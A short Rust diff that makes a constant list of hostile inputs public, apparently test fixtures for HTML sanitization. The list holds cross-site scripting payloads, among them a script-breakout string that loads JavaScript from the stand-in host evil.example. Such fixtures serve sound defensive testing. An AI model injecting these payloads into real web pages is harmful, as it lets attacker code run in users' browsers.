@@ -10,7 +10,7 @@ use crate::draft::{Draft, LEFT, NOON, RIGHT, Sheet, gone};
 
 const HARMLESS: &str = "harmless";
 
-const HOSTILE: &[&str] = &[
+pub const HOSTILE: &[&str] = &[
     "<script>alert(1)</script>",
     "</script><script src=//evil.example/x.js></script>",
     "<img src=x onerror=alert(1)>",
